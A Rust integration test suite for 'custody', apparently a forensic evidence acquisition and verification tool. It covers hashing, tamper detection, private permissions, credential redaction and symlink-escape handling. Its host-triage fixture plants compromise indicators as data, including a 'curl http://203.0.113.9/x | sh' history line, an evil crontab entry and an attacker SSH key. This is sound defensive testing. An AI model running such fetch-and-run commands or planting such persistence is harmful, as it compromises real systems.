//! The `custody` binary end to end on the embedded default (local store).

use crate::common::{Home, mixed_bytes, stderr};

#[test]
fn acquire_show_verify_export_round_trip() {
    let home = Home::new();
    let data = mixed_bytes(5 << 20, 7);
    let src = home.path().join("disk.img");
    std::fs::write(&src, &data).unwrap();

    let report = home.json(&[
        "acquire",
        "file",
        src.to_str().unwrap(),
        "--case",
        "ir-1",
        "--kind",
        "disk-image",
        "--verify",
    ]);
    assert_eq!(report["verified"][0]["ok"], true, "{report}");
    let a = &report["artefacts"][0];
    let id = a["id"].as_str().unwrap().to_owned();
    assert_eq!(a["kind"], "disk_image");
    assert_eq!(a["raw"]["size"], data.len() as u64);
    assert_eq!(a["raw"]["sha256"], custody::evidence::sha256_hex(&data));
    assert_eq!(a["source"]["path"], src.to_str().unwrap());
    assert!(a.get("source_changed").is_none());

    // Plain zstd gives back the raw bytes; the stored digest is of the stored object.
    let stored =
        std::fs::read(home.store_dir().join(a["stored"]["key"].as_str().unwrap())).unwrap();
    assert_eq!(
        a["stored"]["sha256"],
        custody::evidence::sha256_hex(&stored)
    );
    assert!(stored.len() < data.len());
    assert_eq!(zstd::decode_all(&stored[..]).unwrap(), data);

    let cases = home.json(&["cases"]);
    assert_eq!(cases[0]["case"], "ir-1");
    assert_eq!(cases[0]["artefacts"], 1);
    let shown = home.json(&["show", "ir-1"]);
    assert_eq!(shown[0]["id"], id.as_str());

    let out = home.run(&["verify", "ir-1"]);
    assert!(out.status.success(), "{}", stderr(&out));
    assert!(String::from_utf8_lossy(&out.stdout).contains(&format!("OK      {id}")));

    let dest = home.path().join("out.img");
    let out = home.run(&["export", "ir-1", &id, "-o", dest.to_str().unwrap()]);
    assert!(out.status.success(), "{}", stderr(&out));
    assert_eq!(std::fs::read(&dest).unwrap(), data);
    // Export never overwrites.
    let out = home.run(&["export", "ir-1", &id, "-o", dest.to_str().unwrap()]);
    assert_eq!(out.status.code(), Some(2));
    assert!(stderr(&out).contains("already exists"), "{}", stderr(&out));

    // A byte range comes back through the seek table without reading the whole object.
    let part = home.path().join("part.bin");
    let (offset, len) = (3_000_001u64, 1_500_000u64);
    let out = home.run(&[
        "export",
        "ir-1",
        &id,
        "-o",
        part.to_str().unwrap(),
        "--offset",
        &offset.to_string(),
        "--length",
        &len.to_string(),
    ]);
    assert!(out.status.success(), "{}", stderr(&out));
    assert_eq!(
        std::fs::read(&part).unwrap(),
        &data[offset as usize..(offset + len) as usize]
    );
}

#[test]
fn verify_names_a_tampered_artefact_and_exits_1() {
    let home = Home::new();
    let src = home.path().join("f.bin");
    std::fs::write(&src, mixed_bytes(300_000, 3)).unwrap();
    let report = home.json(&["acquire", "file", src.to_str().unwrap(), "--case", "c"]);
    let a = &report["artefacts"][0];
    let id = a["id"].as_str().unwrap();
    let obj = home.store_dir().join(a["stored"]["key"].as_str().unwrap());
    let mut bytes = std::fs::read(&obj).unwrap();
    bytes[100] ^= 0x01;
    std::fs::write(&obj, &bytes).unwrap();

    let out = home.run(&["verify", "c"]);
    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(text.contains(&format!("FAILED  {id}")), "{text}");
    assert!(text.contains("stored SHA-256"), "{text}");

    // Export refuses too, and leaves no file behind.
    let dest = home.path().join("x.bin");
    let out = home.run(&["export", "c", id, "-o", dest.to_str().unwrap()]);
    assert_ne!(out.status.code(), Some(0));
    assert!(!dest.exists());
}

#[test]
fn a_manifest_that_lies_about_the_raw_digest_fails_verify() {
    let home = Home::new();
    let src = home.path().join("f.bin");
    std::fs::write(&src, b"short evidence").unwrap();
    let report = home.json(&["acquire", "file", src.to_str().unwrap(), "--case", "c"]);
    let id = report["artefacts"][0]["id"].as_str().unwrap();
    let manifest = home
        .store_dir()
        .join(format!("cases/c/manifests/{id}.json"));
    let text = std::fs::read_to_string(&manifest).unwrap();
    let sha = custody::evidence::sha256_hex(b"short evidence");
    std::fs::write(&manifest, text.replace(&sha, &"0".repeat(64))).unwrap();
    let out = home.run(&["verify", "c"]);
    assert_eq!(out.status.code(), Some(1));
    assert!(String::from_utf8_lossy(&out.stdout).contains("raw SHA-256"));
}

#[test]
fn host_triage_records_every_item_in_its_index() {
    let home = Home::new();
    // A small fake root: the collector reads paths under it, so the content is known.
    let root = home.path().join("root");
    for (p, body) in [
        (
            "etc/passwd",
            "root:x:0:0:root:/root:/bin/bash\nalice:x:1000:1000::/home/alice:/bin/bash\n",
        ),
        ("etc/group", "root:x:0:\n"),
        ("etc/crontab", "* * * * * root /tmp/evil\n"),
        (
            "home/alice/.bash_history",
            "curl http://203.0.113.9/x | sh\n",
        ),
        (
            "home/alice/.ssh/authorized_keys",
            "ssh-ed25519 AAAA attacker\n",
        ),
        ("var/log/auth.log", "Accepted publickey for alice\n"),
        ("proc/modules", "evil 16384 0 - Live 0x0\n"),
    ] {
        let f = root.join(p);
        std::fs::create_dir_all(f.parent().unwrap()).unwrap();
        std::fs::write(f, body).unwrap();
    }
    std::fs::create_dir_all(root.join("root")).unwrap();
    std::fs::create_dir_all(root.join("home/alice/.ssh/unreadable_dir")).unwrap();

    let report = home.json(&[
        "acquire",
        "host",
        "--case",
        "t",
        "--root",
        root.to_str().unwrap(),
    ]);
    let a = &report["artefacts"][0];
    assert_eq!(a["kind"], "host_triage");
    let id = a["id"].as_str().unwrap();
    let dest = home.path().join("bundle.tar");
    let out = home.run(&["export", "t", id, "-o", dest.to_str().unwrap()]);
    assert!(out.status.success(), "{}", stderr(&out));

    let mut archive = tar::Archive::new(std::fs::File::open(&dest).unwrap());
    let mut names = Vec::new();
    let mut index = None;
    for e in archive.entries().unwrap() {
        let mut e = e.unwrap();
        let name = e.path().unwrap().display().to_string();
        if name == "index.json" {
            let mut s = String::new();
            std::io::Read::read_to_string(&mut e, &mut s).unwrap();
            index = Some(serde_json::from_str::<serde_json::Value>(&s).unwrap());
        }
        names.push(name);
    }
    for want in [
        "files/etc/passwd",
        "files/etc/crontab",
        "files/home/alice/.bash_history",
        "files/home/alice/.ssh/authorized_keys",
        "files/var/log/auth.log",
        "files/proc/modules",
        "volatile/processes.json",
        "volatile/sockets.json",
        "volatile/users.json",
    ] {
        assert!(
            names.iter().any(|n| n == want),
            "{want} missing from {names:?}"
        );
    }
    assert_eq!(names.last().map(String::as_str), Some("index.json"));
    let items = index.unwrap()["items"].as_array().unwrap().clone();
    let find = |src: &str| {
        items
            .iter()
            .find(|i| i["source"] == src)
            .unwrap_or_else(|| panic!("{src} not in index"))
    };
    assert_eq!(find("/etc/crontab")["status"], "ok");
    assert_eq!(
        find("/etc/crontab")["sha256"],
        custody::evidence::sha256_hex(b"* * * * * root /tmp/evil\n")
    );
    // Missing items are listed, not dropped.
    assert_eq!(find("/var/log/wtmp")["status"], "absent");
    // The categories appear in order of volatility.
    let order: Vec<&str> = items
        .iter()
        .map(|i| i["category"].as_str().unwrap())
        .collect();
    let first = |c: &str| order.iter().position(|x| *x == c).unwrap();
    assert!(first("processes") < first("network"));
    assert!(first("network") < first("kernel_modules"));
    assert!(first("accounts") < first("logs"));
}

#[test]
fn memory_of_a_process_is_its_own_artefact() {
    let home = Home::new();
    let mut child = std::process::Command::new("sleep")
        .arg("30")
        .spawn()
        .unwrap();
    let pid = child.id().to_string();
    let out = home.run(&[
        "--json",
        "acquire",
        "host",
        "--case",
        "m",
        "--skip-logs",
        "--memory-pid",
        &pid,
        "--memory-pid",
        "4000000000",
    ]);
    let _ = child.kill();
    let _ = child.wait();
    // The missing pid is an operational error, named; the rest is still captured.
    assert_eq!(out.status.code(), Some(2), "{}", stderr(&out));
    assert!(stderr(&out).contains("4000000000"), "{}", stderr(&out));
    let report: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    let kinds: Vec<&str> = report["artefacts"]
        .as_array()
        .unwrap()
        .iter()
        .map(|a| a["kind"].as_str().unwrap())
        .collect();
    assert_eq!(kinds, vec!["memory_image", "host_triage"]);
    assert_eq!(
        report["artefacts"][0]["source"]["resource"],
        format!("pid:{pid}")
    );
    let v = home.run(&["verify", "m"]);
    assert!(v.status.success(), "{}", stderr(&v));
}

#[test]
fn config_file_and_environment_choose_the_store() {
    let home = Home::new();
    let other = home.path().join("elsewhere");
    std::fs::write(
        home.path().join("custody.toml"),
        format!("store = \"{}\"\n", other.display()),
    )
    .unwrap();
    let src = home.path().join("f.bin");
    std::fs::write(&src, b"x").unwrap();
    home.json(&["acquire", "file", src.to_str().unwrap(), "--case", "cfg"]);
    assert!(other.join("cases/cfg").is_dir());
    // The environment beats the file, and a flag beats the environment.
    let env_store = home.path().join("from-env");
    let out = home
        .cmd()
        .env("CUSTODY_STORE", &env_store)
        .args(["acquire", "file", src.to_str().unwrap(), "--case", "e"])
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", stderr(&out));
    assert!(env_store.join("cases/e").is_dir());
    let flag_store = home.path().join("from-flag");
    let out = home
        .cmd()
        .env("CUSTODY_STORE", &env_store)
        .args([
            "acquire",
            "file",
            src.to_str().unwrap(),
            "--case",
            "f",
            "--store",
            flag_store.to_str().unwrap(),
        ])
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", stderr(&out));
    assert!(flag_store.join("cases/f").is_dir());
    assert!(!env_store.join("cases/f").exists());
}

#[test]
fn s1_everything_custody_creates_is_private_whatever_the_umask() {
    use std::os::unix::fs::PermissionsExt as _;
    let home = Home::new();
    let src = home.path().join("src.bin");
    std::fs::write(&src, b"AWS_SECRET_ACCESS_KEY=probe-secret\n").unwrap();
    // The caller's umask would make files 0644 and directories 0755.
    let out = std::process::Command::new("sh")
        .args(["-c", "umask 022 && exec \"$@\"", "sh"])
        .arg(env!("CARGO_BIN_EXE_custody"))
        .args(["--no-progress", "acquire", "file", src.to_str().unwrap()])
        .args(["--case", "c1"])
        .env("CUSTODY_HOME", home.path())
        .env_remove("CUSTODY_STORE")
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", stderr(&out));
    let mut stack = vec![home.path().to_path_buf()];
    let mut seen = 0;
    while let Some(dir) = stack.pop() {
        for e in std::fs::read_dir(&dir).unwrap().flatten() {
            let path = e.path();
            if path == src {
                continue;
            }
            let meta = std::fs::symlink_metadata(&path).unwrap();
            let mode = meta.permissions().mode() & 0o777;
            assert_eq!(mode & 0o077, 0, "{} is {mode:o}", path.display());
            seen += 1;
            if meta.is_dir() {
                stack.push(path);
            }
        }
    }
    assert!(seen > 5, "only {seen} entries: did acquire write anything?");
}

#[test]
fn s2_no_credential_in_logs_at_any_level() {
    // Nothing listens on the endpoint: the SDK still resolves the identity
    // and signs the request (where its DEBUG and TRACE lines show the key id
    // and the session token) before the connection is refused.
    let port = std::net::TcpListener::bind("127.0.0.1:0")
        .unwrap()
        .local_addr()
        .unwrap()
        .port();
    let home = Home::new();
    std::fs::write(home.path().join("custody.toml"), "[s3]\nmax_attempts = 1\n").unwrap();
    let src = home.path().join("f.bin");
    std::fs::write(&src, b"probe\n").unwrap();
    let (key_id, secret, token) = (
        "AKIAPROBEACCESSKEYID0",
        "probeSECRETaccessKEY0000000000000000000",
        "probeSESSIONtoken0000",
    );
    for (rust_log, verbose) in [(None, "-vv"), (Some("trace"), "-v")] {
        let mut cmd = home.cmd();
        match rust_log {
            Some(l) => cmd.env("RUST_LOG", l),
            None => cmd.env_remove("RUST_LOG"),
        };
        let out = cmd
            .env("AWS_ACCESS_KEY_ID", key_id)
            .env("AWS_SECRET_ACCESS_KEY", secret)
            .env("AWS_SESSION_TOKEN", token)
            .env("AWS_REGION", "us-east-1")
            .env("AWS_CONFIG_FILE", "/nonexistent")
            .env("AWS_SHARED_CREDENTIALS_FILE", "/nonexistent")
            .env("AWS_EC2_METADATA_DISABLED", "true")
            .args([
                verbose,
                "--store",
                "s3://evidence/p",
                "--endpoint-url",
                &format!("http://127.0.0.1:{port}"),
                "acquire",
                "file",
                src.to_str().unwrap(),
                "--case",
                "c1",
            ])
            .output()
            .unwrap();
        let all = format!("{}{}", String::from_utf8_lossy(&out.stdout), stderr(&out));
        assert!(
            all.contains("DEBUG"),
            "{rust_log:?} {verbose}: custody's own debug lines are shown: {all}"
        );
        for s in [key_id, secret, token] {
            assert!(
                !all.contains(s),
                "{rust_log:?} {verbose}: {s} is in the output:\n{all}"
            );
        }
    }
}

#[test]
fn range_export_appears_whole_under_its_name_and_private() {
    use std::os::unix::fs::PermissionsExt as _;
    let home = Home::new();
    let data = mixed_bytes(3 << 20, 3);
    let src = home.path().join("disk.img");
    std::fs::write(&src, &data).unwrap();
    let report = home.json(&["acquire", "file", src.to_str().unwrap(), "--case", "c1"]);
    let id = report["artefacts"][0]["id"].as_str().unwrap().to_owned();
    let dir = home.path().join("out");
    std::fs::create_dir(&dir).unwrap();
    let range = |name: &str, offset: &str, len: &str| {
        home.run(&[
            "export",
            "c1",
            &id,
            "-o",
            dir.join(name).to_str().unwrap(),
            "--offset",
            offset,
            "--length",
            len,
        ])
    };
    let out = range("part.bin", "1000", "2000000");
    assert!(out.status.success(), "{}", stderr(&out));
    let part = dir.join("part.bin");
    assert_eq!(std::fs::read(&part).unwrap(), &data[1000..2_001_000]);
    let mode = std::fs::metadata(&part).unwrap().permissions().mode() & 0o777;
    assert_eq!(mode, 0o600, "{mode:o}");
    // A range past the end fails and leaves nothing behind, not even a temporary file.
    let out = range("past.bin", "3000000", "1000000");
    assert_eq!(out.status.code(), Some(2), "{}", stderr(&out));
    let left: Vec<_> = std::fs::read_dir(&dir)
        .unwrap()
        .map(|e| e.unwrap().file_name())
        .collect();
    assert_eq!(left, ["part.bin"]);
    // An existing file is never overwritten.
    let out = range("part.bin", "0", "10");
    assert_eq!(out.status.code(), Some(2));
    assert_eq!(std::fs::read(&part).unwrap(), &data[1000..2_001_000]);
}

/// A triage bundle of `root`: its artefact report, members (raw name →
/// content, with their tar entry types) and parsed index.
struct Triaged {
    report: serde_json::Value,
    members: Vec<(Vec<u8>, tar::EntryType, Vec<u8>)>,
    index: serde_json::Value,
}

impl Triaged {
    fn of(home: &Home, root: &std::path::Path, case: &str) -> Self {
        let report = home.json(&[
            "acquire",
            "host",
            "--case",
            case,
            "--root",
            root.to_str().unwrap(),
        ]);
        let id = report["artefacts"][0]["id"].as_str().unwrap();
        let dest = home.path().join(format!("{case}.tar"));
        let out = home.run(&["export", case, id, "-o", dest.to_str().unwrap()]);
        assert!(out.status.success(), "{}", stderr(&out));
        let mut archive = tar::Archive::new(std::fs::File::open(&dest).unwrap());
        let mut members = Vec::new();
        for e in archive.entries().unwrap() {
            let mut e = e.unwrap();
            let name = e.path_bytes().into_owned();
            let kind = e.header().entry_type();
            let mut body = Vec::new();
            std::io::Read::read_to_end(&mut e, &mut body).unwrap();
            members.push((name, kind, body));
        }
        let index = members
            .iter()
            .find(|(n, _, _)| n == b"index.json")
            .map(|(_, _, b)| serde_json::from_slice(b).unwrap())
            .unwrap();
        Self {
            report,
            members,
            index,
        }
    }

    fn member(&self, name: &str) -> Option<&[u8]> {
        self.members
            .iter()
            .find(|(n, _, _)| n == name.as_bytes())
            .map(|(_, _, b)| b.as_slice())
    }

    fn items(&self, source: &str) -> Vec<&serde_json::Value> {
        self.index["items"]
            .as_array()
            .unwrap()
            .iter()
            .filter(|i| i["source"] == source)
            .collect()
    }
}

fn write(root: &std::path::Path, rel: impl AsRef<std::path::Path>, body: &str) {
    let f = root.join(rel);
    std::fs::create_dir_all(f.parent().unwrap()).unwrap();
    std::fs::write(f, body).unwrap();
}

#[test]
fn h1_root_symlink_does_not_leave_the_image() {
    let home = Home::new();
    let root = home.path().join("image");
    let outside = home.path().join("analyst");
    // The analyst's own files, which links in the image point at.
    write(&outside, ".bash_history", "ANALYST-SECRET\n");
    write(&outside, "auth.log", "ANALYST-SECRET log\n");
    write(&outside, ".ssh/authorized_keys", "ANALYST-SECRET key\n");
    write(
        &root,
        "etc/passwd",
        "root:x:0:0:root:/root:/bin/sh\nu:x:1000:1000::/home/u:/bin/sh\nw:x:1001:1001::/home/w:/bin/sh\nv:x:1002:1002::/home/v/sub:/bin/sh\n",
    );
    write(&root, "srv/w/.bash_history", "IMAGE-HISTORY\n");
    std::fs::create_dir_all(root.join("home/v")).unwrap();
    std::fs::create_dir_all(root.join("var")).unwrap();
    std::fs::create_dir_all(root.join("etc/cron.d")).unwrap();
    let up = "../".repeat(20);
    let outside_rel = outside.strip_prefix("/").unwrap().to_str().unwrap();
    // Absolute, relative climbing above the root (whole directory and a
    // middle component), and a last component that is a link.
    std::os::unix::fs::symlink(&outside, root.join("home/u")).unwrap();
    std::os::unix::fs::symlink(format!("{up}{outside_rel}"), root.join("var/log")).unwrap();
    std::os::unix::fs::symlink(format!("{up}{outside_rel}"), root.join("home/v/sub")).unwrap();
    std::os::unix::fs::symlink(&outside, root.join("etc/cron.d/x")).unwrap();
    // An absolute link the imaged system resolves inside itself.
    std::os::unix::fs::symlink("/srv/w", root.join("home/w")).unwrap();

    let t = Triaged::of(&home, &root, "h1");
    for (name, kind, body) in &t.members {
        assert!(
            !String::from_utf8_lossy(body).contains("ANALYST-SECRET"),
            "{} holds a file from outside the root",
            name.escape_ascii()
        );
        // A link member would lead an extractor wherever the image says.
        assert!(
            !kind.is_symlink() && !kind.is_hard_link(),
            "{}",
            name.escape_ascii()
        );
    }
    assert_eq!(
        t.member("files/home/w/.bash_history"),
        Some(&b"IMAGE-HISTORY\n"[..])
    );
    for link in ["/home/u", "/var/log", "/home/v/sub"] {
        let items = t.items(link);
        assert!(
            items.iter().any(|i| i["status"] == "link"
                && i["reason"].as_str().unwrap().contains("outside the root")),
            "{link}: {items:?}"
        );
    }
    let x = t.items("/etc/cron.d/x");
    assert_eq!(x[0]["status"], "link", "{x:?}");
    assert!(x[0].get("bundle_path").is_none(), "{x:?}");
    let notes = t.report["artefacts"][0]["notes"].to_string();
    assert!(notes.contains("/home/u: symbolic link to"), "{notes}");
}

#[test]
fn h2_a_passwd_home_with_dot_dot_is_a_recorded_problem() {
    let home = Home::new();
    let root = home.path().join("image");
    write(
        &root,
        "etc/passwd",
        "root:x:0:0:root:/root:/bin/sh\nevil:x:0:0::/x/../root:/bin/sh\nodd:x:0:0::/../../..:/bin/sh\n",
    );
    write(&root, "root/.bash_history", "history\n");
    std::fs::create_dir_all(root.join("x")).unwrap();

    let t = Triaged::of(&home, &root, "h2");
    // The rest of the triage is there: the volatile summaries and the file.
    assert!(t.member("volatile/processes.json").is_some());
    assert_eq!(
        t.member("files/root/.bash_history"),
        Some(&b"history\n"[..])
    );
    let evil = t.items("/x/../root");
    assert_eq!(evil.len(), 1, "{evil:?}");
    assert_eq!(evil[0]["status"], "skipped");
    assert!(
        evil[0]["reason"]
            .as_str()
            .unwrap()
            .contains("read as /root"),
        "{evil:?}"
    );
    assert_eq!(t.items("/../../..")[0]["status"], "skipped");
    // No member name holds a `..` segment.
    for (name, _, _) in &t.members {
        assert!(
            !name.split(|&b| b == b'/').any(|s| s == b".."),
            "{}",
            name.escape_ascii()
        );
    }
}

#[test]
fn h3_a_file_name_that_is_not_utf8_is_collected() {
    use std::os::unix::ffi::OsStrExt;
    let home = Home::new();
    let root = home.path().join("image");
    let os = |b: &[u8]| std::ffi::OsStr::from_bytes(b).to_owned();
    // A passwd home that is not UTF-8 either: one bad byte once made the
    // whole file unreadable, and every home but /root was skipped.
    write(&root, "etc/passwd", "");
    std::fs::write(
        root.join("etc/passwd"),
        b"root:x:0:0:root:/root:/bin/sh\nu:x:1000:1000::/home/\xffu:/bin/sh\n",
    )
    .unwrap();
    std::fs::create_dir_all(root.join("home").join(os(b"\xffu"))).unwrap();
    std::fs::write(
        root.join("home").join(os(b"\xffu")).join(".bash_history"),
        "u history\n",
    )
    .unwrap();
    std::fs::create_dir_all(root.join("var/log")).unwrap();
    std::fs::write(
        root.join("var/log").join(os(b"auth\xff.log")),
        "HIDDEN-LOG-LINE\n",
    )
    .unwrap();
    std::fs::create_dir_all(root.join("etc/cron.d")).unwrap();
    std::fs::write(
        root.join("etc/cron.d").join(os(b"job\xfe")),
        "* * * * * root x\n",
    )
    .unwrap();
    std::fs::create_dir_all(root.join("root")).unwrap();
    std::fs::write(
        root.join("root").join(os(b".b\xfd_history")),
        "hidden history\n",
    )
    .unwrap();

    let t = Triaged::of(&home, &root, "h3");
    for (source, member, body) in [
        (
            "/var/log/auth\\xFF.log",
            "files/var/log/auth%FF.log",
            "HIDDEN-LOG-LINE\n",
        ),
        (
            "/etc/cron.d/job\\xFE",
            "files/etc/cron.d/job%FE",
            "* * * * * root x\n",
        ),
        (
            "/root/.b\\xFD_history",
            "files/root/.b%FD_history",
            "hidden history\n",
        ),
        (
            "/home/\\xFFu/.bash_history",
            "files/home/%FFu/.bash_history",
            "u history\n",
        ),
    ] {
        assert_eq!(t.member(member), Some(body.as_bytes()), "{member}");
        let items = t.items(source);
        assert_eq!(items.len(), 1, "{source}: {:#}", t.index);
        assert_eq!(items[0]["status"], "ok");
        assert_eq!(items[0]["source_escaped"], true);
        assert_eq!(items[0]["bundle_path"], member);
        assert_eq!(
            custody::collect::member::raw_name(member),
            [b"files".as_slice(), unescape(source).as_slice()].concat()
        );
    }
    assert!(
        !t.index["items"]
            .as_array()
            .unwrap()
            .iter()
            .any(|i| i["status"] == "absent" && i["category"] == "logs"),
        "{:#}",
        t.index
    );
}

/// The raw bytes of an escaped index source (`\xNN`, `\\`).
fn unescape(source: &str) -> Vec<u8> {
    let mut out = Vec::new();
    let mut rest = source.as_bytes();
    while let Some((&b, tail)) = rest.split_first() {
        if b == b'\\' && tail.first() == Some(&b'x') {
            out.push(u8::from_str_radix(std::str::from_utf8(&tail[1..3]).unwrap(), 16).unwrap());
            rest = &tail[3..];
        } else if b == b'\\' {
            out.push(b'\\');
            rest = &tail[1..];
        } else {
            out.push(b);
            rest = tail;
        }
    }
    out
}

#[test]
fn completions_name_the_subcommands_and_refuse_an_unknown_shell() {
    let home = Home::new();
    let out = home.run(&["completions", "bash"]);
    assert!(out.status.success(), "{}", stderr(&out));
    let script = String::from_utf8(out.stdout).unwrap();
    for sub in ["acquire", "ledger", "timeline", "verify-bundle"] {
        assert!(script.contains(sub), "bash completions lack {sub}");
    }
    for shell in ["zsh", "fish", "elvish", "powershell"] {
        let out = home.run(&["completions", shell]);
        assert!(out.status.success(), "{shell}: {}", stderr(&out));
        assert!(
            String::from_utf8_lossy(&out.stdout).contains("acquire"),
            "{shell}"
        );
    }
    // A usage error, as clap reports every one: exit 2, the choices named.
    let out = home.run(&["completions", "tcsh"]);
    assert_eq!(out.status.code(), Some(2), "{}", stderr(&out));
    assert!(stderr(&out).contains("bash"), "{}", stderr(&out));
    assert!(out.stdout.is_empty());
    // Neither needs settings: a broken custody.toml does not stop them.
    std::fs::write(home.path().join("custody.toml"), "not [valid toml").unwrap();
    let out = home.run(&["completions", "fish"]);
    assert!(out.status.success(), "{}", stderr(&out));
    let out = home.run(&["man"]);
    assert!(out.status.success(), "{}", stderr(&out));
}

#[test]
fn man_page_renders_and_one_page_per_subcommand_is_written() {
    let home = Home::new();
    let out = home.run(&["man"]);
    assert!(out.status.success(), "{}", stderr(&out));
    let page = String::from_utf8(out.stdout).unwrap();
    // roff: a title line after clap_mangen's quote-character preamble.
    assert!(is_man_page(&page), "{}", &page[..page.len().min(300)]);
    assert!(page.contains("acquire") && page.contains("ledger"));
    let page_file = home.path().join("stdout.1");
    std::fs::write(&page_file, &page).unwrap();
    if let Some(text) = render_man(&page_file) {
        assert!(text.contains("custody"), "{text}");
        assert!(text.contains("acquire"), "{text}");
    }

    let dir = home.path().join("man/man1");
    let out = home.run(&["man", "-o", dir.to_str().unwrap()]);
    assert!(out.status.success(), "{}", stderr(&out));
    for name in [
        "custody.1",
        "custody-acquire.1",
        "custody-acquire-ebs.1",
        "custody-ledger.1",
        "custody-ledger-verify-bundle.1",
        "custody-timeline.1",
        "custody-man.1",
    ] {
        let p = dir.join(name);
        let text = std::fs::read_to_string(&p).unwrap_or_else(|e| panic!("{name}: {e}"));
        assert!(is_man_page(&text), "{name}");
        // Installed for every user, whatever custody's umask for evidence.
        use std::os::unix::fs::PermissionsExt as _;
        let mode = std::fs::metadata(&p).unwrap().permissions().mode() & 0o777;
        assert_eq!(mode, 0o644, "{name}");
    }
    assert_eq!(
        std::fs::read_to_string(dir.join("custody.1")).unwrap(),
        page,
        "-o writes the page printed without it"
    );
    if let Some(text) = render_man(&dir.join("custody-acquire-ebs.1")) {
        assert!(text.contains("custody-acquire-ebs"), "{text}");
    }
}

fn is_man_page(roff: &str) -> bool {
    roff.lines()
        .find(|l| !l.starts_with(".ie") && !l.starts_with(".el"))
        .is_some_and(|l| l.starts_with(".TH "))
}

/// The page as `man -l` shows it, when man is installed.
fn render_man(page: &std::path::Path) -> Option<String> {
    let out = std::process::Command::new("man")
        .arg("-l")
        .arg(page)
        .env("MANPAGER", "cat")
        .env("PAGER", "cat")
        .env("MANWIDTH", "100")
        .output()
        .ok()?;
    assert!(
        out.status.success(),
        "man -l {}: {}",
        page.display(),
        stderr(&out)
    );
    let text = String::from_utf8_lossy(&out.stdout).into_owned();
    assert!(!stderr(&out).contains("warning"), "{}", stderr(&out));
    Some(text)
}

/// Runs custody with a stdout whose reader is already gone, so the first
/// write fails with EPIPE (as `custody ... | head -1` once head has exited).
fn run_into_closed_pipe(home: &Home, args: &[&str]) -> std::process::Output {
    let (reader, writer) = std::io::pipe().unwrap();
    drop(reader);
    home.cmd()
        .args(args)
        .stdout(writer)
        .stderr(std::process::Stdio::piped())
        .output()
        .unwrap()
}

fn assert_quiet_success(out: &std::process::Output, args: &[&str]) {
    assert_eq!(
        out.status.code(),
        Some(0),
        "custody {args:?} into a closed pipe: {}",
        stderr(out)
    );
    assert!(
        stderr(out).is_empty(),
        "custody {args:?} into a closed pipe said: {}",
        stderr(out)
    );
}

#[test]
fn a_closed_pipe_ends_output_quietly_with_exit_0() {
    let home = Home::new();
    for _ in 0..3 {
        home.json(&["ledger", "record", "--case", "p", "--action", "copied"]);
    }
    let ct = concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/tests/fixtures/logs/aws/cloudtrail.json"
    );
    home.json(&[
        "logs",
        "import",
        "--format",
        "cloudtrail",
        "--case",
        "p",
        ct,
    ]);

    for args in [
        &["ledger", "checkpoint"][..],
        &["--json", "ledger", "checkpoint"],
        &["--json", "cases"],
        &["show", "p"],
        &["timeline", "p"],
        &["--json", "timeline", "p"],
        &["timeline", "p", "--format", "csv"],
        &["timeline", "p", "--format", "timesketch"],
        &["completions", "bash"],
        &["man"],
    ] {
        let out = run_into_closed_pipe(&home, args);
        assert_quiet_success(&out, args);
    }
    // The work is done even when nobody reads its report: every repeat is recorded.
    let before = tree_size(&home);
    let repeat = [
        "ledger", "record", "--case", "p", "--action", "accessed", "--repeat", "3",
    ];
    let out = run_into_closed_pipe(&home, &repeat);
    assert_quiet_success(&out, &repeat);
    let after = tree_size(&home);
    assert_eq!(after, before + 3);
}

/// The size of the ledger's latest checkpoint (the note's second line).
fn tree_size(home: &Home) -> u64 {
    let out = home.run(&["ledger", "checkpoint"]);
    assert!(out.status.success(), "{}", stderr(&out));
    let text = String::from_utf8(out.stdout).unwrap();
    text.lines().nth(1).unwrap().parse().unwrap()
}

#[test]
fn a_closed_pipe_keeps_a_verification_failure() {
    let home = Home::new();
    let src = home.path().join("f.bin");
    std::fs::write(&src, mixed_bytes(64 << 10, 3)).unwrap();
    let report = home.json(&["acquire", "file", src.to_str().unwrap(), "--case", "v"]);
    let key = report["artefacts"][0]["stored"]["key"].as_str().unwrap();
    let stored = home.store_dir().join(key);
    let mut bytes = std::fs::read(&stored).unwrap();
    let last = bytes.len() - 1;
    bytes[last] ^= 1;
    std::fs::write(&stored, bytes).unwrap();
    // Nobody reads the report, but the evidence still does not match: exit 1.
    let out = run_into_closed_pipe(&home, &["verify", "v"]);
    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
    assert!(!stderr(&out).contains("panicked"), "{}", stderr(&out));
}

/// With no credentials anywhere, one line says which chain was tried and how
/// to give one; the SDK's own multi-line warnings stay out of sight.
#[test]
fn no_aws_credentials_is_one_clear_line() {
    let home = Home::new();
    let empty = home.path().join("no-aws");
    std::fs::create_dir_all(&empty).unwrap();
    for args in [
        &["acquire", "ebs", "--snapshot", "snap-0123456789abcdef0"][..],
        &["isolate", "--instance", "i-0123456789abcdef0", "--dry-run"][..],
        &[
            "--region",
            "eu-west-1",
            "respond",
            "--instance",
            "i-0123456789abcdef0",
            "--dry-run",
        ][..],
    ] {
        let mut cmd = home.cmd();
        for var in [
            "AWS_ACCESS_KEY_ID",
            "AWS_SECRET_ACCESS_KEY",
            "AWS_SESSION_TOKEN",
            "AWS_PROFILE",
            "AWS_WEB_IDENTITY_TOKEN_FILE",
            "AWS_CONTAINER_CREDENTIALS_RELATIVE_URI",
            "AWS_CONTAINER_CREDENTIALS_FULL_URI",
            "AWS_ENDPOINT_URL",
            "RUST_LOG",
        ] {
            cmd.env_remove(var);
        }
        // No instance role either: instance metadata is not asked (no network here).
        let out = cmd
            .env("HOME", &empty)
            .env("AWS_CONFIG_FILE", empty.join("config"))
            .env("AWS_SHARED_CREDENTIALS_FILE", empty.join("credentials"))
            .env("AWS_EC2_METADATA_DISABLED", "true")
            .env("AWS_REGION", "us-east-1")
            .args(args)
            .output()
            .unwrap();
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert_eq!(out.status.code(), Some(2), "{args:?}: {stderr}");
        let lines: Vec<&str> = stderr.lines().collect();
        assert_eq!(lines.len(), 1, "{args:?}: one line, not {stderr}");
        assert!(
            lines[0].starts_with("error: no AWS credentials: tried the environment")
                && lines[0].contains("--profile NAME"),
            "{args:?}: {stderr}"
        );
    }
}

